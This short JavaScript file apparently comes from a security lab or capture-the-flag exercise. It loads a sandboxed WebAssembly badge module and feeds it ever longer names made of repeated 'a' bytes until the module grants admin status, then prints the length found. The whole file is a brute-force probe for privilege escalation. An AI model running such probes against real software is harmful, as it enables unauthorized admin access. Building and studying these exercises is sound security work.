// How long a name of equal letters must be at least to make its bearer an admin.

import { readFileSync } from 'node:fs';

const module = new WebAssembly.Module(readFileSync('target/sandbox/badge.wasm'));
const isAdmin = (length) => {
  const { memory, input_ptr, set_name, is_admin } = new WebAssembly.Instance(module).exports;
  new Uint8Array(memory.buffer, input_ptr(), 64).fill(97);
  set_name(length);
  return is_admin() !== 0;
};
let length = 0;
while (!isAdmin(length)) length += 1;
console.log(length);
